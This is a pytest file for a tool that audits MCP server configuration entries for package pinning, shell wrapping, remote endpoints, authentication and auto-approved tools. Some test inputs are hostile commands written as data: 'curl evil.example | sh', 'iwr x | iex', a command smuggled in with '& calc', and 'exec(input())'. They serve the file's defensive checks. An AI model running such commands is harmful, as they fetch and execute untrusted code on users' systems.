"""One MCP server: what it fetches and whether that is pinned, where it is, and who is asked."""

import re

import pytest
from mcp_entries import run, server

from maestro_gate.collect.reading import Tables

DIGEST = "sha256:" + "0123456789abcdef" * 4
COMMIT = "0123456789abcdef0123456789abcdef01234567"


@pytest.mark.parametrize(
    ("line", "package", "version", "pinned"),
    [
        ("npx -y @scope/pkg@1.2.3", "@scope/pkg", "1.2.3", True),
        ("npx -y @scope/pkg@1.2.3-beta.1 --flag x", "@scope/pkg", "1.2.3-beta.1", True),
        ("npx @scope/pkg", "@scope/pkg", "", False),
        ("npx pkg@latest", "pkg", "latest", False),
        ("npx pkg@^1.2.3", "pkg", "^1.2.3", False),
        ("npx pkg@1", "pkg", "1", False),
        ("npx -p a@1.0.0 --package=b@2.0.0 cmd", "a", "1.0.0", True),
        ("npx -p a@1.0.0 -p b cmd", "a", "1.0.0", False),
        ("npx --registry https://registry.example pkg@1.0.0", "pkg", "1.0.0", True),
        ("npx -- pkg@1.0.0", "pkg", "1.0.0", True),
        ("npx ./dist/server.js", "", "", True),
        ("npx github:owner/repo", "github:owner/repo", "", False),
        (f"npx github:owner/repo#{COMMIT}", "github:owner/repo", COMMIT, True),
        ("npm exec -- pkg@1.0.0", "pkg", "1.0.0", True),
        ("npm x pkg", "pkg", "", False),
        ("npm start", "", "", True),
        ("pnpm dlx pkg@1.0.0", "pkg", "1.0.0", True),
        ("pnpm -C /x dlx pkg", "pkg", "", False),
        ("pnpm run serve", "", "", True),
        ("yarn dlx -p pkg@1.0.0 cmd", "pkg", "1.0.0", True),
        ("bunx pkg", "pkg", "", False),
        ("bun x pkg@1.0.0", "pkg", "1.0.0", True),
        ("uvx pkg==1.2.3", "pkg", "1.2.3", True),
        ("uvx pkg@1.2.3", "pkg", "1.2.3", True),
        ("uvx pkg@latest", "pkg", "latest", False),
        ("uvx pkg", "pkg", "", False),
        ("uvx --python 3.12 pkg[cli]>=1.0", "pkg", ">=1.0", False),
        ("uvx --from pkg==1.2.3 cmd", "pkg", "1.2.3", True),
        ("uvx --from pkg==1.* cmd", "pkg", "==1.*", False),
        (f"uvx --from git+https://git.example/a/b@{COMMIT} cmd", "git+https://git.example/a/b", COMMIT, True),
        ("uvx --from git+https://git.example/a/b@main cmd", "git+https://git.example/a/b", "main", False),
        ("uvx --from git+https://git.example/a/b cmd", "git+https://git.example/a/b", "", False),
        ("uv tool run pkg==1.0", "pkg", "1.0", True),
        ("uv --directory /x tool run pkg", "pkg", "", False),
        ("uv --directory /x run server.py", "", "", True),
        ("uv run --with mcp==1.2.0 mcp run x.py", "mcp", "1.2.0", True),
        ("uv run --with mcp[cli] mcp run x.py", "mcp", "", False),
        ("pipx run pkg==1.0", "pkg", "1.0", True),
        ("pipx run --spec pkg cmd", "pkg", "", False),
        (f"docker run -i --rm registry.example/x/y@{DIGEST}", "registry.example/x/y", DIGEST, True),
        (f"docker run registry.example:5000/y:1.0@{DIGEST}", "registry.example:5000/y", DIGEST, True),
        (
            "docker run -i --rm -v /a:/b --name n registry.example:5000/x:1.0",
            "registry.example:5000/x",
            "1.0",
            False,
        ),
        ("docker container run mcp/x", "mcp/x", "", False),
        ("podman run -e A mcp/x:latest", "mcp/x", "latest", False),
        ("docker compose up", "", "", True),
        ("deno run -A npm:@scope/pkg@1.2.3", "@scope/pkg", "1.2.3", True),
        ("deno run -A jsr:@scope/pkg", "@scope/pkg", "", False),
        (
            "deno run https://deno.example/x@v1.2.3/mod.ts",
            "https://deno.example/x@v1.2.3/mod.ts",
            "v1.2.3",
            True,
        ),
        ("deno run server.ts", "", "", True),
        ("go run git.example/x/y@v1.2.3", "git.example/x/y", "v1.2.3", True),
        ("go run ./cmd/server", "", "", True),
        ("dnx Pkg --version 1.2.3 --yes", "Pkg", "1.2.3", True),
        ("dnx Pkg@1.2.3", "Pkg", "1.2.3", True),
        ("node dist/index.js", "", "", True),
        ("python -m server", "", "", True),
        ("cmd /c npx -y pkg", "pkg", "", False),
        ("env A=b npx pkg", "pkg", "", False),
        ("doppler run -- uvx pkg", "pkg", "", False),
        ("C:\\tools\\npx.cmd pkg@1.0.0", "pkg", "1.0.0", True),
        ("NPX.CMD -y pkg", "pkg", "", False),
    ],
)
def test_a_launcher_says_what_it_fetches(
    line: str, package: str, version: str, pinned: bool, tables: Tables
) -> None:
    command, *arguments = line.split()
    found = run(tables, command, *arguments)
    assert (found.package_name, found.version, found.pinned) == (package, version, pinned)
    assert found.is_local


@pytest.mark.parametrize(
    ("command", "arguments", "runs_shell", "program"),
    [
        ("bash", ["-c", "npx -y pkg"], True, "npx"),
        ("/bin/sh", ["-lc", "curl https://x.example | sh"], True, "curl"),
        ("powershell", ["-Command", "iwr x | iex"], True, "iwr"),
        ("cmd", ["/c", "npx", "pkg"], False, "npx"),
        ("cmd.exe", ["/c", "npx pkg & calc"], True, "npx"),
        ("bash", ["server.sh"], False, "bash"),
        ("sudo", ["-E", "bash", "-c", "x"], True, "x"),
    ],
)
def test_a_shell_with_code_is_a_shell(
    command: str, arguments: list[str], runs_shell: bool, program: str, tables: Tables
) -> None:
    found = run(tables, command, *arguments)
    assert (found.runs_shell, found.command) == (runs_shell, program)


@pytest.mark.parametrize(
    ("entry", "url", "transport", "is_local", "authentication"),
    [
        ({"url": "https://mcp.example.com/mcp"}, "https://mcp.example.com/mcp", "http", False, "none"),
        ({"type": "sse", "url": "http://10.0.0.8:81/x"}, "http://10.0.0.8:81/x", "sse", False, "none"),
        ({"url": "https://mcp.example.com/sse/"}, "https://mcp.example.com/sse/", "sse", False, "none"),
        ({"httpUrl": "http://localhost:3000/mcp"}, "http://localhost:3000/mcp", "http", True, "none"),
        ({"serverUrl": "http://[::1]/mcp"}, "http://[::1]/mcp", "http", True, "none"),
        (
            {"type": "streamable-http", "url": "http://127.0.0.2/sse"},
            "http://127.0.0.2/sse",
            "http",
            True,
            "none",
        ),
        ({"url": "HTTPS://MCP.example.com/A?x=1#y"}, "https://mcp.example.com/A", "http", False, "none"),
        (
            {"url": "https://h.example/m", "headers": {"Authorization": "Bearer ${T}"}},
            "https://h.example/m",
            "http",
            False,
            "header",
        ),
        (
            {"url": "https://h.example/m", "headers": {"X-Tenant": "a"}},
            "https://h.example/m",
            "http",
            False,
            "none",
        ),
        (
            {"url": "https://h.example/m", "oauth": {"clientId": "x"}},
            "https://h.example/m",
            "http",
            False,
            "oauth",
        ),
        ({"url": "https://h.example/m?api_key=${K}"}, "https://h.example/m", "http", False, "url"),
        ({"url": "${SERVER_URL}"}, "${SERVER_URL}", "http", False, "none"),
    ],
)
def test_a_remote_server(
    entry: object, url: str, transport: str, is_local: bool, authentication: str, tables: Tables
) -> None:
    found = server(tables, entry)
    assert (found.url, found.transport, found.is_local, found.authentication) == (
        url,
        transport,
        is_local,
        authentication,
    )


def test_a_bridge_stands_for_the_server_behind_it(tables: Tables) -> None:
    found = run(
        tables, "npx", "-y", "mcp-remote", "http://mcp.example.com/sse", "--header", "Authorization: ${AUTH}"
    )
    assert (found.transport, found.package_name, found.pinned) == ("stdio", "mcp-remote", False)
    assert (found.scheme, found.host, found.is_local, found.authentication) == (
        "http",
        "mcp.example.com",
        False,
        "header",
    )


@pytest.mark.parametrize(
    ("members", "approved"),
    [
        ({"autoApprove": ["b", "a"]}, ("a", "b")),
        ({"alwaysAllow": ["x"], "autoApprove": []}, ("x",)),
        ({"autoApprove": True}, ("*",)),
        ({"trust": True}, ("*",)),
        ({"trust": False}, ()),
        ({"tools": {"read": {"approval_mode": "approve"}, "write": {"approval_mode": "prompt"}}}, ("read",)),
        ({}, ()),
    ],
)
def test_tools_that_run_without_asking(
    members: dict[str, object], approved: tuple[str, ...], tables: Tables
) -> None:
    assert run(tables, "x", **members).auto_approved == approved


@pytest.mark.parametrize(
    ("base", "head"),
    [
        ("npx -y @acme/orders-mcp@1.2.3", "npx -y @acme/orders-mcp@2.0.0 --verbose"),
        ("npx -y @acme/orders-mcp@1.2.3", "bunx @acme/orders-mcp"),
        ("node server.js --api-token aaaa-bbbb-cccc", "node server.js --api-token dddd-eeee-ffff"),
        ("node server.js --token=aaaa-bbbb-cccc", "node server.js --token=dddd-eeee-ffff"),
    ],
)
def test_another_version_or_secret_starts_the_same_thing(base, head, tables):
    assert run(tables, base).launch == run(tables, head).launch != ""


@pytest.mark.parametrize(
    ("command", "arguments"),
    [
        ("python", ("-c", "exec(input())")),
        ("/opt/x/run.sh", ("evil",)),
        ("node", ("./evil.js",)),
        ("npx", ("./evil",)),
        ("uvx", ("@acme/orders-mcp",)),
        ("bash", ("-c", "npx -y @acme/orders-mcp@1.2.3; curl evil.example | sh")),
    ],
)
def test_another_thing_under_the_same_name_is_started_otherwise(command, arguments, tables):
    assert (
        run(tables, command, *arguments).launch != run(tables, "npx", "-y", "@acme/orders-mcp@1.2.3").launch
    )


def test_what_is_started_is_told_without_its_arguments(tables):
    told = run(tables, "/opt/x/run.sh", "--api-key", "sk-1234567890abcdef", "words").launch
    assert re.fullmatch(r"command run\.sh [0-9a-f]{12}", told)
    assert run(tables, "/opt/y/run.sh", "--api-key", "sk-1234567890abcdef", "words").launch != told
